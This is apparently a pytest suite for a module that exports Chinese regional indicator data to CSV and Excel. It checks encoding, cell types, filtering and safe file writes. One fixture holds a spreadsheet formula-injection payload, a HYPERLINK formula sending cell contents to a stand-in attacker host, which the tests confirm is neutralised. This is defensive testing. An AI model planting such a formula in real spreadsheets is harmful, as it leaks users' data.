"""Tables for spreadsheets: readable by them, and nothing in them runs."""

import csv
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from load.errors import ExportFailed
from load.export import COLUMNS, TABLES, Choice, export, export_columns, export_rows, inert
from tests.load.factory import report_id, tables, together

LIVE = '=HYPERLINK("http://evil.test/"&A1,"点")'
NAMES = pl.DataFrame({"indicator": ["fines"], "name_zh": ["罚款案件数"], "name_en": ["Fines"]})


@pytest.fixture
def filled(data, put):
    frames = together(tables(1, 2), tables(3, year=2023))
    frames["reports"] = frames["reports"].with_columns(
        title=pl.when(report_id=report_id(1)).then(pl.lit(LIVE)).otherwise("title")
    )
    put(frames)
    return data


@pytest.mark.parametrize(
    ("text", "written"),
    [
        *((f"{sign}1+1", f"'{sign}1+1") for sign in "=+-@＝＋－＠\t\r\n"),
        (" =1+1", "' =1+1"),
        ("\ufeff=1+1", "'\ufeff=1+1"),
        (LIVE, f"'{LIVE}"),
        ("法治政府", "法治政府"),
        ("——附件", "——附件"),
        ("第1号=2", "第1号=2"),
        ("", ""),
        (None, None),
    ],
    ids=repr,
)
def test_a_cell_that_would_run_is_made_inert_and_no_other_is_touched(text, written):
    assert pl.select(inert(pl.lit(text, pl.String)).alias("x")).item() == written


def test_csv_opens_as_utf8_with_every_text_quoted(filled, tmp_path):
    out = tmp_path / "indicators.csv"
    assert export(filled, "csv", out, NAMES) == 6
    content = out.read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")
    with out.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert list(rows[0]) == [column.name for column in COLUMNS]
    assert [row["report_year"] for row in rows] == ["2023"] * 2 + ["2024"] * 4
    first = next(row for row in rows if row["report_id"] == report_id(1) and row["indicator"] == "fines")
    assert first["title"] == f"'{LIVE}"
    assert first["sentence"] == "全年办理罚款案件10件。"
    assert (first["value"], first["name_zh"], first["county_name"]) == ("10.0", "罚款案件数", "临江县")
    assert not [cell for row in rows for cell in row.values() if cell[:1] in "=+-@" and cell]


def test_a_workbook_keeps_codes_as_text_and_numbers_as_numbers(filled, tmp_path):
    out = tmp_path / "indicators.xlsx"
    assert export(filled, "xlsx", out) == 6
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["indicators", "columns"]
    sheet = book["indicators"]
    names = [cell.value for cell in sheet[1]]
    assert names == [column.name for column in COLUMNS]
    rows = [dict(zip(names, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
    assert len(rows) == 6
    for row in rows:
        assert row["region_code"].data_type == row["report_id"].data_type == "s"
        assert row["value"].data_type == row["report_year"].data_type == "n"
        assert row["published"].is_date
    assert {cell.data_type for row in rows for cell in row.values()} <= {"s", "n", "d"}, "no formula, no error"
    assert f"'{LIVE}" in {row["title"].value for row in rows}
    assert not any(cell.hyperlink for row in rows for cell in row.values())
    labels = {row[0].value: row[1].value for row in book["columns"].iter_rows(min_row=2)}
    assert labels == {column.name: column.zh for column in COLUMNS}


def test_a_text_longer_than_a_cell_is_cut_and_not_lost(data, put, tmp_path):
    frames = tables(1)
    long = "长" * 40_000
    frames["observations"] = frames["observations"].with_columns(sentence=pl.lit(long))
    put(frames)
    export(data, "xlsx", tmp_path / "x.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "x.xlsx")["indicators"]
    cell = sheet.cell(2, [column.name for column in COLUMNS].index("sentence") + 1).value
    assert len(cell) == 32_767
    assert cell.endswith("…")


@pytest.mark.parametrize("format", ["csv", "xlsx"])
@pytest.mark.parametrize("table", TABLES)
def test_every_table_is_exported_and_read_back(filled, tmp_path, table, format):
    out = tmp_path / f"x.{format}"
    count = export(filled, format, out, choice=Choice(table))
    names = [column.name for column in export_columns(table)]
    if format == "csv":
        rows = pl.read_csv(out, infer_schema_length=0)
        assert (rows.columns, rows.height) == (names, count)
    else:
        sheet = openpyxl.load_workbook(out)[table]
        assert [cell.value for cell in sheet[1]] == names
        assert sheet.max_row == count + 1
    assert count == {"reports": 3, "observations": 9, "indicators": 6}.get(table, 0)


def test_a_choice_narrows_the_rows(filled):
    assert export_rows(filled, choice=Choice(first=2024)).height == 4
    assert export_rows(filled, choice=Choice(first=2020, last=2023)).height == 2
    assert export_rows(filled, choice=Choice(region="120103")).height == 2
    assert export_rows(filled, choice=Choice(indicators=("fines",))).height == 3
    assert export_rows(filled, choice=Choice("observations", indicators=("fines",))).height == 3
    assert export_rows(filled, choice=Choice("reports", region="13")).height == 0


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_the_same_state_gives_the_same_file(filled, tmp_path, format):
    for name in ("one", "two"):
        export(filled, format, tmp_path / name)
    assert (tmp_path / "one").read_bytes() == (tmp_path / "two").read_bytes()


def test_every_indicator_is_exported_once(filled):
    rows = export_rows(filled)
    assert rows.height == rows.select("report_id", "indicator").n_unique() == 6
    assert rows["name_zh"].null_count() == 6


@pytest.mark.parametrize("format", ["csv", "xlsx"])
@pytest.mark.parametrize("out", ["gone/x", "."], ids=["no folder", "a folder"])
def test_a_file_that_cannot_be_written_is_named_and_nothing_is_left(filled, tmp_path, format, out):
    before = sorted(tmp_path.iterdir())
    with pytest.raises(ExportFailed, match="expected a file in a folder that is there"):
        export(filled, format, tmp_path / "folder" / out if out != "." else tmp_path)
    assert sorted(tmp_path.iterdir()) == before


def test_an_older_file_stands_until_the_new_one_is_whole(filled, tmp_path):
    out = tmp_path / "x.csv"
    out.write_text("old")
    export(filled, "csv", out)
    assert out.read_bytes()[:3] == b"\xef\xbb\xbf"
    assert list(tmp_path.glob(".*.tmp")) == []


@pytest.mark.parametrize(
    ("format", "message"), [("ods", "no 'ods'; expected one of csv, xlsx"), ("csv", "nothing is published")]
)
def test_what_cannot_be_exported_is_told(data, format, message):
    with pytest.raises(ExportFailed, match=message):
        export(data, format, Path("x"))
